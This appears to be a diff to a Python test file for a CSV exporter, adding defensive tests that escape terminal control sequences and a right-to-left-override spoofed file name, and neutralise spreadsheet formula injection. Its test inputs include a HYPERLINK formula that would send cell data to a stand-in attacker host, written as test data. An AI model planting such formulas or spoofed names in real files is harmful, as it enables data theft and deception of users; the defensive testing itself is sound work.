@@ -71,13 +71,28 @@ def test_the_csv_reads_back_to_the_same_numbers(study: StudyRecord, tmp_path: Pa
         np.testing.assert_array_equal(back[name].to_numpy(float), frame[name].to_numpy(float, na_value=np.nan))
 
 
-@pytest.mark.parametrize("error", ['a, "quoted" field', "two\nlines", "NA", "1e5", "é 漢字", "\udcff"])
-def test_errors_stay_text_whatever_they_look_like(make: Make, error: str) -> None:
+def with_error(make: Make, error: str) -> StudyRecord:
     one = make(1)
-    failed = replace(one, trials=(replace(one.trials[0], error=error),))
-    assert read_csv(as_csv(trials_frame(failed)))["error"].tolist() == [
-        error.encode(errors="backslashreplace").decode()
-    ]
+    return replace(one, trials=(replace(one.trials[0], error=error),))
+
+
+@pytest.mark.parametrize("error", ['a, "quoted" field', "two\nlines", "NA", "1e5", "é 漢字"])
+def test_errors_stay_text_whatever_they_look_like(make: Make, error: str) -> None:
+    assert read_csv(as_csv(trials_frame(with_error(make, error))))["error"].tolist() == [error]
+
+
+def test_what_would_act_on_a_terminal_or_was_never_utf_8_is_written_out(make: Make) -> None:
+    text = as_csv(trials_frame(with_error(make, "\x1b]0;title\x07 \u202egpj.exe \udcff")))
+    assert read_csv(text)["error"].tolist() == [r"\u001b]0;title\u0007 \u202egpj.exe \udcff"]
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/"&A1)', "+1", "-1", "@SUM(A1)"])
+def test_no_text_of_a_download_is_a_formula(name: str, study: StudyRecord, make: Make) -> None:
+    one = make(1)
+    tried = replace(one, trials=(replace(one.trials[0], origin=name),))
+    assert read_csv(as_csv(trials_frame(tried)))["origin"].tolist() == [f"'{name}"]
+    confirmed = replace(study, confirmation=(replace(study.confirmation[0], candidate=name, trial=None),))
+    assert read_csv(as_csv(confirmation_frame(confirmed)))["name"].tolist() == [f"'{name}"]
 
 
 def test_the_confirmation_frame_names_the_winner_and_holds_its_test_measures(first_release: StudyRecord) -> None:
